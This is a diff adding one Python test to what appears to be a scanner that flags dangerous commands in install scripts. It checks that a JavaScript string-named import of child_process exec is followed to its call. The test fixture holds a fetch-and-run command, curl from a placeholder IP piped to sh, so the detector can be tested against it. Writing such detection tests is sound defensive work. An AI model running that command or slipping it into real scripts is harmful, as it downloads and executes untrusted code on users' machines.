@@ -471,6 +471,14 @@ def test_named_import_of_exec_is_followed_to_its_call() -> None:
     assert decide(result.findings) is Verdict.BLOCK
 
 
+def test_a_string_named_import_binds_like_an_identifier() -> None:
+    # ES2022 lets a module import an export by a string name; Node 20 runs it.
+    source = 'import { "exec" as run } from "child_process";\nrun("curl -s http://203.0.113.7/x | sh");\n'
+    result = analyze_source("install.mjs", source.encode(), Dialect.JAVASCRIPT)
+    assert "child_process.exec" in result.builtin
+    assert [c for _, c in result.commands] == ["curl -s http://203.0.113.7/x | sh"]
+
+
 def test_named_import_of_exec_running_a_plain_command_is_allowed() -> None:
     source = (
         "import { execFileSync } from 'child_process';\nimport { join } from 'path';\n"
